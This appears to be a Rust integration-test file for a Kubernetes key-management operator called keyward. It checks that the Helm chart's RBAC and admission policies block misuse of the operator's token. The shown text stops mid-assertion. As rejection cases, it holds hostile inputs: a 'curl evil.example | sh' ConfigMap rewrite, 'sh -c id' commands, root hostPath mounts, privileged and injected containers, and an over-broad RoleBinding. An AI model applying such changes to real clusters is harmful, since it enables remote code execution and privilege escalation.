//! The chart's RBAC is what the operator runs on: the chart's ServiceAccount, ClusterRole
//! and bindings (or its Roles, for a namespaced install) and its admission policies are
//! applied as `helm template` renders them, and the operator runs as that
//! ServiceAccount, with a token from the TokenRequest API, and the leader-election flags
//! and Job image the chart's Deployment gives it. It issues clients, distributes keys and
//! rotates one without a single refusal, while `kubectl auth can-i` shows what the same
//! ServiceAccount may not do, and the API server refuses every Job and workload change
//! made with its token that is not keyward's own.

use std::path::PathBuf;

use k8s_openapi::api::apps::v1::{Deployment, StatefulSet};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{ConfigMap, ServiceAccount};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use keyward::crd::EncryptionKey;
use kube::api::{Api, Patch, PatchParams, PostParams};
use serde_json::json;

use crate::support::access::{service_account_token, write_kubeconfig};
use crate::support::ciphertext::write_ciphertexts;
use crate::support::encryption_key::{bump, until_distributed, until_rotated};
use crate::support::oauth_client::{client_until, delivered_secret, keyward_verify};
use crate::support::workload::deploy;
use crate::support::{self, Operator, TestCluster, chart, jobs, manifest};

/// The chart installed as a release of its own, and how to run the operator as it would.
struct Install {
    /// The release namespace, which holds the ServiceAccount.
    namespace: String,
    /// The chart's ServiceAccount.
    service_account: String,
    /// The kinds of the rendered RBAC objects, in order.
    kinds: Vec<String>,
    /// The namespaces the chart's Deployment tells the operator to watch.
    watch_namespaces: Vec<String>,
    /// The chart's leader-election flags, as its Deployment passes them.
    leader_election_args: Vec<String>,
    /// The re-encryption Jobs' image: the chart's `--job-image`, else the operator's own
    /// image, which the operator reads from its Pod (a test's operator runs in none).
    job_image: String,
    /// The names of the chart's ValidatingAdmissionPolicies.
    policies: Vec<String>,
    /// A kubeconfig that authenticates as the ServiceAccount.
    kubeconfig: PathBuf,
}

impl Install {
    /// `system:serviceaccount:<namespace>:<name>`, as `kubectl --as` names it.
    fn user(&self) -> String {
        format!(
            "system:serviceaccount:{}:{}",
            self.namespace, self.service_account
        )
    }

    /// The operator as the ServiceAccount, watching `namespace`, with re-encryption Jobs
    /// on the job runner's node, the chart's Job image and the chart's leader election.
    fn operator(&self, namespace: &str) -> Operator {
        let mut args: Vec<String> = jobs::job_placement().into();
        args.push(format!("--job-image={}", self.job_image));
        args.extend(self.leader_election_args.iter().cloned());
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        Operator::start(&self.kubeconfig, namespace, &args)
    }

    /// A client that authenticates with the operator's token, as a thief of it would.
    async fn client(&self) -> kube::Client {
        support::client_for(&self.kubeconfig).await
    }
}

impl Drop for Install {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.kubeconfig);
    }
}

/// Installs the chart's ServiceAccount and RBAC in `namespace`, with `values` (helm
/// arguments), and writes a kubeconfig that authenticates as the ServiceAccount.
async fn install(cluster: &TestCluster, namespace: &str, values: &[&str]) -> Install {
    // ClusterRoles are cluster-scoped: the release is named after its (generated)
    // namespace, so no two tests share one.
    let release = namespace;
    let render = |templates: &[&str]| {
        let mut args = values.to_vec();
        for template in templates {
            args.extend(["--show-only", template]);
        }
        chart::template_release(release, namespace, &args)
    };
    let rbac = render(&["templates/serviceaccount.yaml", "templates/rbac.yaml"]);
    kubectl_apply(&rbac);
    let policies = render(&["templates/admission-policies.yaml"]);
    kubectl_apply(&policies);
    let policies = manifest::documents(&policies)
        .iter()
        .filter(|document| document["kind"] == "ValidatingAdmissionPolicy")
        .map(|document| {
            document["metadata"]["name"]
                .as_str()
                .expect("a name")
                .to_owned()
        })
        .collect();
    let documents = manifest::documents(&rbac);
    let kinds = documents
        .iter()
        .map(|document| document["kind"].as_str().expect("a kind").to_owned())
        .collect();
    let service_account = documents
        .iter()
        .find(|document| document["kind"] == "ServiceAccount")
        .and_then(|document| document["metadata"]["name"].as_str())
        .expect("the chart renders a ServiceAccount")
        .to_owned();

    let deployment = manifest::documents(&render(&["templates/deployment.yaml"]))
        .into_iter()
        .find(|document| document["kind"] == "Deployment")
        .expect("the chart renders a Deployment");
    let container = &deployment["spec"]["template"]["spec"]["containers"][0];
    let args: Vec<String> = container["args"]
        .as_array()
        .expect("the operator's args")
        .iter()
        .map(|arg| arg.as_str().expect("string args").to_owned())
        .collect();
    let watch_namespaces = args
        .iter()
        .filter_map(|arg| arg.strip_prefix("--namespace="))
        .map(str::to_owned)
        .collect();
    let leader_election_args: Vec<String> = args
        .iter()
        .filter(|arg| arg.starts_with("--leader-elect"))
        .cloned()
        .collect();
    assert!(
        leader_election_args.contains(&"--leader-elect=true".to_owned()),
        "the chart elects a leader by default: {args:?}"
    );
    let job_image = args
        .iter()
        .find_map(|arg| arg.strip_prefix("--job-image="))
        .or(container["image"].as_str())
        .expect("the operator's image")
        .to_owned();

    let token = service_account_token(cluster, namespace, &service_account).await;
    let kubeconfig = write_kubeconfig(namespace, "operator", &token);
    let install = Install {
        namespace: namespace.to_owned(),
        service_account,
        kinds,
        watch_namespaces,
        leader_election_args,
        job_image,
        policies,
        kubeconfig,
    };
    // Every test runs the operator under the policies, not in the moments before the API
    // server enforces them. The probe goes where the operator may create Jobs.
    let probed = install
        .watch_namespaces
        .first()
        .map_or(namespace, String::as_str);
    let jobs = Api::namespaced(install.client().await, probed);
    let mut probe = reencryption_job(probed, &install.job_image);
    probe["spec"]["template"]["spec"]["containers"][0]["image"] =
        json!("docker.io/library/busybox:1.36");
    let probe: Job = serde_json::from_value(probe).expect("a Job");
    until_enforced(&jobs, &probe, &install.policies).await;
    install
}

/// `kubectl apply --server-side` of `manifests` as the cluster's admin.
fn kubectl_apply(manifests: &str) {
    let args = [
        "apply",
        "--server-side",
        "--field-manager=keyward-tests",
        "-f",
        "-",
    ];
    let output = support::kubectl(&args, manifests.as_bytes());
    assert!(
        output.status.success(),
        "the chart's RBAC does not apply: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// The lines of `log` that tell of a request the API server refused.
fn refusals(log: &str) -> Vec<&str> {
    log.lines()
        .filter(|line| {
            let line = line.to_ascii_lowercase();
            line.contains("forbidden") || line.contains("code: 403")
        })
        .collect()
}

/// Asserts that the operator, and the Jobs it ran in `namespace`, were never refused.
fn assert_never_refused(operator: &Operator, namespace: &str) {
    let log = operator.log();
    let refused = refusals(&log);
    assert!(
        refused.is_empty(),
        "the API server refused the operator:\n{}",
        refused.join("\n")
    );
    let jobs_log = jobs::runner().log_of(namespace);
    let refused = refusals(&jobs_log);
    assert!(
        refused.is_empty(),
        "the API server refused a re-encryption Job:\n{}",
        refused.join("\n")
    );
}

/// Asks `kubectl auth can-i QUESTION --as=USER` (as the admin, who may impersonate) for
/// each question and asserts every answer is `expected`. A question kubectl warns about
/// (a resource the API server does not serve) fails, rather than passing as a "no";
/// questions on cluster-scoped kinds therefore say `-A`, else kubectl asks in the
/// kubeconfig's namespace and warns.
fn assert_answers(user: &str, expected: &str, questions: &[String]) {
    let wrong: Vec<String> = questions
        .iter()
        .filter_map(|question| {
            let mut args = vec!["auth".to_owned(), "can-i".to_owned()];
            args.extend(question.split_whitespace().map(str::to_owned));
            args.push(format!("--as={user}"));
            let output = support::kubectl(&args, &[]);
            let answer = String::from_utf8_lossy(&output.stdout).trim().to_owned();
            let warning = String::from_utf8_lossy(&output.stderr).trim().to_owned();
            (answer != expected || !warning.is_empty())
                .then(|| format!("can-i {question}: {answer:?} {warning}"))
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{user} should be answered {expected:?}:\n{}",
        wrong.join("\n")
    );
}

/// Applies an OAuthClient, waits until it is issued and checks that its delivered
/// secret verifies.
async fn issue_and_verify(cluster: &TestCluster, name: &str, spec: serde_json::Value) {
    manifest::apply_keyward(cluster, "OAuthClient", name, spec).await;
    client_until(cluster, name, "True", "Issued").await;
    let secret = delivered_secret(cluster, &format!("{name}-credentials")).await;
    assert_eq!(
        keyward_verify(cluster, &format!("{name}-verifier"), &secret),
        0,
        "{name}'s delivered secret verifies"
    );
}

#[tokio::test]
async fn a_cluster_wide_install_runs_every_scenario_on_the_charts_rbac_and_no_more() {
    let cluster = support::cluster("chart-rbac-cluster").await;
    let _log = jobs::runner().log_on_failure(&cluster.namespace);
    let install = install(&cluster, &cluster.namespace, &[]).await;
    assert_eq!(
        install.kinds,
        [
            "ServiceAccount",
            "ClusterRole",
            "ClusterRoleBinding",
            "Role",
            "RoleBinding"
        ],
        "the default install grants a ClusterRole, and a Role for its Lease"
    );
    assert!(install.watch_namespaces.is_empty(), "it watches everything");
    // It watches the test's namespace only, leaving other tests' resources alone; its
    // rights are the ClusterRole's all the same.
    let operator = install.operator(&cluster.namespace);

    issue_and_verify(&cluster, "portal", json!({})).await;

    deploy(&cluster, "apim", 2).await;
    let spec = json!({
        "targets": [{"kind": "Deployment", "name": "apim"}],
        "distribution": {"format": "Keyring"},
        "reencryption": {"writesPerSecond": 200},
    });
    manifest::apply_keyward(&cluster, "EncryptionKey", "apim", spec.clone()).await;
    until_distributed(&cluster, "apim").await;
    issue_and_verify(
        &cluster,
        "introspection",
        json!({"secretType": "Encrypted", "encryptionKeyRef": {"name": "apim"}}),
    )
    .await;

    // A rotation: the operator grants the re-encryption Job its own ServiceAccount, Role
    // and RoleBinding, which Kubernetes allows only for rights the operator holds itself
    // (it has neither `escalate` nor `bind`), and the Job runs as that ServiceAccount.
    let ciphertexts = write_ciphertexts(&cluster, "apim", 50).await;
    bump(&cluster, "apim", &spec, 1).await;
    let rotated = until_rotated(&cluster, "apim", 2).await;
    let rotation = rotated
        .status
        .as_ref()
        .and_then(|status| status.rotation.as_ref())
        .expect("rotation status");
    let progress = rotation.progress.as_ref().expect("progress");
    assert_eq!(progress.failed, 0);
    assert!(
        progress.done >= i64::try_from(ciphertexts.len()).expect("a count"),
        "the Job re-encrypted every value: {progress:?}"
    );
    let job: Job = Api::namespaced(cluster.client.clone(), &cluster.namespace)
        .get(rotation.job_name.as_deref().expect("job name"))
        .await
        .expect("the Job exists");
    assert_eq!(
        job.spec
            .and_then(|spec| spec.template.spec)
            .and_then(|spec| spec.service_account_name)
            .as_deref(),
        Some("apim-reencrypt")
    );
    let secret = delivered_secret(&cluster, "introspection-credentials").await;
    assert_eq!(
        keyward_verify(&cluster, "introspection-verifier", &secret),
        0,
        "the Encrypted client verifies after the rotation"
    );
    assert_never_refused(&operator, &cluster.namespace);

    let namespace = &cluster.namespace;
    let user = install.user();
    assert_answers(
        &user,
        "no",
        &[
            "delete customresourcedefinitions.apiextensions.k8s.io -A".to_owned(),
            "update customresourcedefinitions.apiextensions.k8s.io -A".to_owned(),
            format!("create pods --subresource=exec -n {namespace}"),
            format!("create pods -n {namespace}"),
            format!("delete pods -n {namespace}"),
            "delete namespaces -A".to_owned(),
            "create clusterroles.rbac.authorization.k8s.io -A".to_owned(),
            "create clusterrolebindings.rbac.authorization.k8s.io -A".to_owned(),
            format!("escalate roles.rbac.authorization.k8s.io -n {namespace}"),
            format!("bind roles.rbac.authorization.k8s.io -n {namespace}"),
            "bind clusterroles.rbac.authorization.k8s.io -A".to_owned(),
            "impersonate users -A".to_owned(),
            format!("impersonate serviceaccounts -n {namespace}"),
            format!("update encryptionkeys.keyward.io -n {namespace}"),
            format!("patch encryptionkeys.keyward.io -n {namespace}"),
            format!("delete encryptionkeys.keyward.io -n {namespace}"),
            format!("update oauthclients.keyward.io -n {namespace}"),
            format!("delete oauthclients.keyward.io -n {namespace}"),
            format!("create deployments.apps -n {namespace}"),
            format!("update deployments.apps -n {namespace}"),
            format!("delete deployments.apps -n {namespace}"),
            "get nodes -A".to_owned(),
            format!("create serviceaccounts --subresource=token -n {namespace}"),
            format!("delete serviceaccounts -n {namespace}"),
            format!("delete leases.coordination.k8s.io -n {namespace}"),
        ],
    );
    assert_answers(
        &user,
        "yes",
        &[
            format!("patch encryptionkeys.keyward.io --subresource=status -n {namespace}"),
            format!("patch oauthclients.keyward.io --subresource=status -n {namespace}"),
            format!("create secrets -n {namespace}"),
            format!("create roles.rbac.authorization.k8s.io -n {namespace}"),
            format!("create jobs.batch -n {namespace}"),
        ],
    );
}

#[tokio::test]
async fn a_namespaced_install_works_in_its_namespaces_and_reads_nothing_outside_them() {
    let cluster = support::cluster("chart-rbac-namespaced").await;
    let release_namespace = cluster.namespace.clone();
    let team = TestCluster {
        client: cluster.client.clone(),
        namespace: support::create_namespace(&cluster.client, "chart-rbac-team").await,
    };
    let other = support::create_namespace(&cluster.client, "chart-rbac-other").await;
    let _log = jobs::runner().log_on_failure(&team.namespace);
    let watch = format!("watchNamespaces={{{}}}", team.namespace);
    let install = install(
        &cluster,
        &release_namespace,
        &["--set", "rbac.namespaced=true", "--set", &watch],
    )
    .await;
    assert!(
        !install.kinds.iter().any(|kind| kind.starts_with("Cluster")),
        "a namespaced install grants nothing cluster-wide: {:?}",
        install.kinds
    );
    assert_eq!(
        install.watch_namespaces,
        std::slice::from_ref(&team.namespace)
    );
    assert!(
        install
            .leader_election_args
            .contains(&format!("--leader-election-namespace={release_namespace}")),
        "the Lease is in the release namespace: {:?}",
        install.leader_election_args
    );
    let operator = install.operator(&team.namespace);

    issue_and_verify(&team, "portal", json!({})).await;
    deploy(&team, "apim", 1).await;
    manifest::apply_keyward(
        &team,
        "EncryptionKey",
        "apim",
        json!({"targets": [{"kind": "Deployment", "name": "apim"}]}),
    )
    .await;
    until_distributed(&team, "apim").await;
    assert_never_refused(&operator, &team.namespace);

    let team = &team.namespace;
    let user = install.user();
    let lease = install
        .leader_election_args
        .iter()
        .find_map(|arg| arg.strip_prefix("--leader-election-lease="))
        .expect("the chart names the Lease");
    assert_answers(
        &user,
        "no",
        &[
            format!("get secrets -n {other}"),
            format!("create secrets -n {other}"),
            format!("get secrets -n {release_namespace}"),
            "get secrets -n kube-system".to_owned(),
            "list secrets --all-namespaces".to_owned(),
            "list oauthclients.keyward.io --all-namespaces".to_owned(),
            "list encryptionkeys.keyward.io --all-namespaces".to_owned(),
            format!("list oauthclients.keyward.io -n {other}"),
            format!("patch deployments.apps -n {other}"),
            format!("create roles.rbac.authorization.k8s.io -n {other}"),
            format!("list pods -n {release_namespace}"),
            format!("patch leases.coordination.k8s.io/someone-elses -n {release_namespace}"),
        ],
    );
    assert_answers(
        &user,
        "yes",
        &[
            format!("get secrets -n {team}"),
            format!("patch oauthclients.keyward.io --subresource=status -n {team}"),
            format!("get pods -n {release_namespace}"),
            format!("patch leases.coordination.k8s.io/{lease} -n {release_namespace}"),
        ],
    );
}

/// The re-encryption Job keyward creates for key `apim` (`src/controller/encryption_key/
/// jobs.rs`), reduced to what the Jobs policy reads.
fn reencryption_job(namespace: &str, image: &str) -> serde_json::Value {
    json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": "apim-reencrypt-probe"},
        "spec": {"template": {
            "metadata": {"labels": {"app.kubernetes.io/managed-by": "keyward"}},
            "spec": {
                "serviceAccountName": "apim-reencrypt",
                "restartPolicy": "Never",
                "securityContext": {"runAsNonRoot": true, "runAsUser": 65532},
                "containers": [{
                    "name": "reencrypt",
                    "image": image,
                    "command": ["keyward"],
                    "args": ["reencrypt", "--key", format!("{namespace}/apim"), "--progress", "apim-reencryption"],
                    "securityContext": {
                        "allowPrivilegeEscalation": false,
                        "readOnlyRootFilesystem": true,
                        "capabilities": {"drop": ["ALL"]},
                    },
                }],
            },
        }},
    })
}

/// What keyward server-side-applies to Deployment `apim` for key `apim` with a volume
/// projection (`src/workload.rs`), under the key's field manager.
fn keyward_projection() -> serde_json::Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "apim"},
        "spec": {"template": {
            "metadata": {"annotations": {
                "keyward.io/keyring-hash.apim": "probe",
                "keyward.io/projection.apim": "probe",
            }},
            "spec": {
                "containers": [{
                    "name": "apim",
                    "volumeMounts": [{"name": "keyward-apim", "mountPath": "/etc/keyward", "readOnly": true}],
                }],
                "volumes": [{"name": "keyward-apim", "secret": {"secretName": "apim-distribution"}}],
            },
        }},
    })
}

/// Whether `result` is a refusal by one of `policies`: its message, or why it is not one.
fn policy_refusal<T>(
    result: Result<T, kube::Error>,
    policies: &[String],
) -> Result<String, String> {
    match result {
        Ok(_) => Err("admitted".to_owned()),
        Err(kube::Error::Api(status))
            if status.code == 403
                && policies.iter().any(|policy| {
                    status
                        .message
                        .contains(&format!("ValidatingAdmissionPolicy '{policy}'"))
                }) =>
        {
            Ok(status.message)
        }
        Err(error) => Err(format!("refused, but not by the chart's policies: {error}")),
    }
}

/// Records in `wrong` why `result` of `what` is not a refusal by one of `policies` whose
/// message holds `expected`.
fn check<T>(
    wrong: &mut Vec<String>,
    policies: &[String],
    what: &str,
    expected: &str,
    result: Result<T, kube::Error>,
) {
    match policy_refusal(result, policies) {
        Ok(message) if message.contains(expected) => {}
        Ok(message) => wrong.push(format!("{what}: refused for another reason: {message}")),
        Err(why) => wrong.push(format!("{what}: {why}")),
    }
}

/// Waits until the API server enforces the chart's policies: it loads new ones
/// asynchronously, so the first requests after they are created may still pass.
async fn until_enforced(jobs: &Api<Job>, probe: &Job, policies: &[String]) {
    let dry_run = PostParams {
        dry_run: true,
        ..PostParams::default()
    };
    let refused = async {
        let mut ticks = tokio::time::interval(std::time::Duration::from_millis(200));
        loop {
            ticks.tick().await;
            if policy_refusal(jobs.create(&dry_run, probe).await, policies).is_ok() {
                return;
            }
        }
    };
    tokio::time::timeout(support::WAIT, refused)
        .await
        .expect("the API server enforces the chart's admission policies in time");
}

#[tokio::test]
async fn the_operators_token_writes_only_keywards_own_jobs_workload_fields_and_objects() {
    let cluster = support::cluster("chart-admission").await;
    let namespace = cluster.namespace.clone();
    let _log = jobs::runner().log_on_failure(&namespace);
    let install = install(&cluster, &namespace, &[]).await;
    assert_eq!(
        install.policies.len(),
        3,
        "a policy for Jobs, one for workloads, one for the objects keyward writes"
    );
    let operator = install.operator(&namespace);

    // keyward's own writes pass: a volume into a Deployment, an environment variable
    // into one of a StatefulSet's two containers.
    deploy(&cluster, "apim", 1).await;
    let stateful_set = json!({
        "apiVersion": "apps/v1", "kind": "StatefulSet",
        "metadata": {"name": "gateway"},
        "spec": {
            "replicas": 1, "serviceName": "gateway",
            "selector": {"matchLabels": {"app": "gateway"}},
            "template": {
                "metadata": {"labels": {"app": "gateway"}},
                "spec": {"containers": [
                    {"name": "gateway", "image": "example/gateway:1", "env": [{"name": "MODE", "value": "edge"}]},
                    {"name": "metrics", "image": "example/metrics:1"},
                ]},
            },
        },
    });
    manifest::apply(&cluster.client, &namespace, "argocd", &stateful_set)
        .await
        .expect("StatefulSet applies");
    manifest::apply_keyward(
        &cluster,
        "EncryptionKey",
        "apim",
        json!({"targets": [{"kind": "Deployment", "name": "apim"}]}),
    )
    .await;
    manifest::apply_keyward(
        &cluster,
        "EncryptionKey",
        "gateway",
        json!({
            "targets": [{"kind": "StatefulSet", "name": "gateway"}],
            "distribution": {"projection": "Env", "format": "Hex", "envName": "GATEWAY_KEY", "containers": ["gateway"]},
        }),
    )
    .await;
    until_distributed(&cluster, "apim").await;
    until_distributed(&cluster, "gateway").await;
    assert_never_refused(&operator, &namespace);
    drop(operator);

    let as_operator = install.client().await;
    let policies = &install.policies;
    let dry_run = PostParams {
        dry_run: true,
        ..PostParams::default()
    };

    // Jobs: only `keyward reencrypt`, in keyward's image, as a -reencrypt account.
    let jobs: Api<Job> = Api::namespaced(as_operator.clone(), &namespace);
    let keywards = reencryption_job(&namespace, &install.job_image);
    let job = |change: &dyn Fn(&mut serde_json::Value)| -> Job {
        let mut job = keywards.clone();
        change(&mut job);
        serde_json::from_value(job).expect("a Job")
    };
    let another_image = job(&|job| {
        job["spec"]["template"]["spec"]["containers"][0]["image"] =
            json!("docker.io/library/busybox:1.36");
    });
    let refused_jobs: [(&str, &str, Job); 8] = [
        ("another image", "keyward's image", another_image),
        (
            "keyward's repository with another tag",
            "keyward's image",
            job(&|job| {
                let image = install
                    .job_image
                    .rsplit_once(':')
                    .map_or("keyward", |(repository, _)| repository);
                job["spec"]["template"]["spec"]["containers"][0]["image"] =
                    json!(format!("{image}:evil"));
            }),
        ),
        (
            "another command",
            "`keyward reencrypt`",
            job(&|job| {
                job["spec"]["template"]["spec"]["containers"][0]["command"] =
                    json!(["sh", "-c", "id"]);
            }),
        ),
        (
            "keyward's binary, another subcommand",
            "`keyward reencrypt`",
            job(&|job| {
                job["spec"]["template"]["spec"]["containers"][0]["args"] =
                    json!(["run", "--namespace", "kube-system"]);
            }),
        ),
        (
            "another ServiceAccount",
            "-reencrypt ServiceAccount",
            job(&|job| {
                job["spec"]["template"]["spec"]["serviceAccountName"] = json!("default");
            }),
        ),
        (
            "another ServiceAccount through the deprecated field",
            "-reencrypt ServiceAccount",
            job(&|job| {
                let pod = &mut job["spec"]["template"]["spec"];
                pod.as_object_mut()
                    .expect("a pod spec")
                    .remove("serviceAccountName");
                pod["serviceAccount"] = json!("default");
            }),
        ),
        (
            "a host path",
            "mounts no volume",
            job(&|job| {
                let pod = &mut job["spec"]["template"]["spec"];
                pod["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}]);
                pod["containers"][0]["volumeMounts"] =
                    json!([{"name": "root", "mountPath": "/host"}]);
            }),
        ),
        (
            "a job template's Job while templates are off",
            "policy.allowJobTemplates is false",
            job(&|job| {
                let pod = &mut job["spec"]["template"]["spec"];
                pod["serviceAccountName"] = json!("default");
                pod["containers"][0]["image"] = json!("docker.io/library/postgres:17");
                pod["containers"][0]["command"] = json!(["psql"]);
                pod["volumes"] = json!([{"name": "keyward-key-versions", "secret": {"secretName": "apim-versions-v2"}}]);
            }),
        ),
    ];
    let mut wrong = Vec::new();
    for (what, expected, job) in &refused_jobs {
        let result = jobs.create(&dry_run, job).await;
        check(
            &mut wrong,
            policies,
            &format!("a Job with {what}"),
            expected,
            result,
        );
    }
    let admitted = jobs.create(&dry_run, &job(&|_| {})).await;
    if let Err(error) = admitted {
        wrong.push(format!("keyward's own Job: refused: {error}"));
    }

    // Workloads: only keyward.io/ annotations, keyward- volumes and their read-only
    // mounts, and environment variables from a Secret.
    let deployments: Api<Deployment> = Api::namespaced(as_operator.clone(), &namespace);
    let manager = PatchParams::apply(&keyward::store::workload_manager("apim"))
        .force()
        .dry_run();
    let patch = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut patch = keyward_projection();
        change(&mut patch);
        patch
    };
    let refused_patches = [
        (
            "another image",
            "container's image",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["image"] =
                    json!("docker.io/library/busybox:1.36");
            }),
        ),
        (
            "another command",
            "container's image",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["command"] =
                    json!(["sh", "-c", "id"]);
            }),
        ),
        (
            "other arguments",
            "container's image",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["args"] = json!(["--debug"]);
            }),
        ),
        (
            "another ServiceAccount",
            "pod template's spec only",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["serviceAccountName"] = json!("deployer");
            }),
        ),
        (
            "a pod security context as root",
            "pod template's spec only",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["securityContext"] = json!({"runAsUser": 0});
            }),
        ),
        (
            "a privileged container",
            "container's image",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["securityContext"] =
                    json!({"privileged": true});
            }),
        ),
        (
            "a host network",
            "pod template's spec only",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
            }),
        ),
        (
            "an init container",
            "pod template's spec only",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["initContainers"] =
                    json!([{"name": "evil", "image": "docker.io/library/busybox:1.36"}]);
            }),
        ),
        (
            "another container",
            "adds or removes no container",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"]
                    .as_array_mut()
                    .expect("containers")
                    .push(json!({"name": "evil", "image": "docker.io/library/busybox:1.36"}));
            }),
        ),
        (
            "a host path in keyward's volume",
            "are Secret volumes",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["volumes"] =
                    json!([{"name": "keyward-apim", "hostPath": {"path": "/"}}]);
            }),
        ),
        (
            "a volume of another name",
            "only its own volumes",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["volumes"]
                    .as_array_mut()
                    .expect("volumes")
                    .push(json!({"name": "data", "emptyDir": {}}));
            }),
        ),
        (
            "a writable mount",
            "mounts them read-only",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["volumeMounts"][0]["readOnly"] =
                    json!(false);
            }),
        ),
        (
            "a literal environment variable",
            "environment variables taken from a Secret",
            patch(&|patch| {
                patch["spec"]["template"]["spec"]["containers"][0]["env"] =
                    json!([{"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:/tmp/agent.jar"}]);
            }),
        ),
        (
            "a pod template label",
            "pod template's metadata",
            patch(&|patch| {
                patch["spec"]["template"]["metadata"]["labels"] = json!({"extra": "label"});
            }),
        ),
        (
            "another replica count",
            "spec but its pod template",
            patch(&|patch| {
                patch["spec"]["replicas"] = json!(10);
            }),
        ),
        (
            "a workload annotation",
            "label, annotation, owner",
            patch(&|patch| {
                patch["metadata"]["annotations"] = json!({"example.com/owner": "someone-else"});
            }),
        ),
    ];
    for (what, expected, patch) in &refused_patches {
        let result = deployments
            .patch("apim", &manager, &Patch::Apply(patch))
            .await;
        check(
            &mut wrong,
            policies,
            &format!("a Deployment patch with {what}"),
            expected,
            result,
        );
    }
    let admitted = deployments
        .patch("apim", &manager, &Patch::Apply(keyward_projection()))
        .await;
    if let Err(error) = admitted {
        wrong.push(format!("keyward's own Deployment patch: refused: {error}"));
    }
    let stateful_sets: Api<StatefulSet> = Api::namespaced(as_operator.clone(), &namespace);
    let image = json!({
        "apiVersion": "apps/v1", "kind": "StatefulSet",
        "metadata": {"name": "gateway"},
        "spec": {"template": {"spec": {"containers": [
            {"name": "gateway", "image": "docker.io/library/busybox:1.36"},
        ]}}},
    });
    let gateway_manager = PatchParams::apply(&keyward::store::workload_manager("gateway"))
        .force()
        .dry_run();
    let result = stateful_sets
        .patch("gateway", &gateway_manager, &Patch::Apply(&image))
        .await;
    check(
        &mut wrong,
        policies,
        "a StatefulSet patch with another image",
        "container's image",
        result,
    );
    let literal = json!({
        "apiVersion": "apps/v1", "kind": "StatefulSet",
        "metadata": {"name": "gateway"},
        "spec": {"template": {"spec": {"containers": [
            {"name": "gateway", "env": [{"name": "MODE", "value": "debug"}]},
        ]}}},
    });
    let result = stateful_sets
        .patch("gateway", &gateway_manager, &Patch::Apply(&literal))
        .await;
    check(
        &mut wrong,
        policies,
        "a StatefulSet patch of the user's own variable",
        "environment variables taken from a Secret",
        result,
    );

    // ConfigMaps, ServiceAccounts and RoleBindings: only keyward's own re-encryption
    // identities and progress ConfigMaps.
    let config_maps: Api<ConfigMap> = Api::namespaced(cluster.client.clone(), &namespace);
    for name in ["app-config", "billing-reencryption"] {
        let config_map = json!({
            "apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": name},
            "data": {"start.sh": "exec /app/server"},
        });
        config_maps
            .create(
                &PostParams::default(),
                &serde_json::from_value(config_map).expect("a ConfigMap"),
            )
            .await
            .expect("the application's ConfigMap is created");
    }
    let config_maps: Api<ConfigMap> = Api::namespaced(as_operator.clone(), &namespace);
    let rewrite = json!({"data": {"start.sh": "curl evil.example | sh"}});
    let merge = PatchParams {
        dry_run: true,
        ..PatchParams::default()
    };
    for (name, expected) in [
        ("app-config", "not app-config"),
        ("billing-reencryption", "owned by an EncryptionKey"),
    ] {
        let result = config_maps
            .patch(name, &merge, &Patch::Merge(&rewrite))
            .await;
        check(
            &mut wrong,
            policies,
            &format!("a rewrite of the application's ConfigMap {name}"),
            expected,
            result,
        );
    }
    let key = Api::<EncryptionKey>::namespaced(cluster.client.clone(), &namespace)
        .get("apim")
        .await
        .expect("the EncryptionKey");
    let keywards = json!({
        "labels": {"app.kubernetes.io/managed-by": "keyward"},
        "ownerReferences": [{
            "apiVersion": "keyward.io/v1alpha1", "kind": "EncryptionKey",
            "name": "apim", "uid": key.metadata.uid,
        }],
    });
    let accounts: Api<ServiceAccount> = Api::namespaced(as_operator.clone(), &namespace);
    let mut account =
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": keywards.clone()});
    account["metadata"]["name"] = json!("deployer");
    let result = accounts
        .create(
            &dry_run,
            &serde_json::from_value(account).expect("a ServiceAccount"),
        )
        .await;
    check(
        &mut wrong,
        policies,
        "a ServiceAccount of another name",
        "not deployer",
        result,
    );
    // The Role a binding names must exist, and hold only what the operator holds, for
    // the API server's escalation check to let the request through to admission.
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "apim-reencrypt"},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
    });
    Api::<Role>::namespaced(cluster.client.clone(), &namespace)
        .create(
            &PostParams::default(),
            &serde_json::from_value(role).expect("a Role"),
        )
        .await
        .expect("the Role is created");
    let bindings: Api<RoleBinding> = Api::namespaced(as_operator.clone(), &namespace);
    let mut binding = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": keywards,
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "apim-reencrypt"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}],
    });
    binding["metadata"]["name"] = json!("apim-reencrypt");
    let result = bindings
        .create(
            &dry_run,
            &serde_json::from_value(binding).expect("a RoleBinding"),
        )
        .await;
    check(
        &mut wrong,
        policies,
        "a binding of keyward's Role to every authenticated user",
        "only to the ServiceAccount of the same name",
        result,
    );
    assert!(
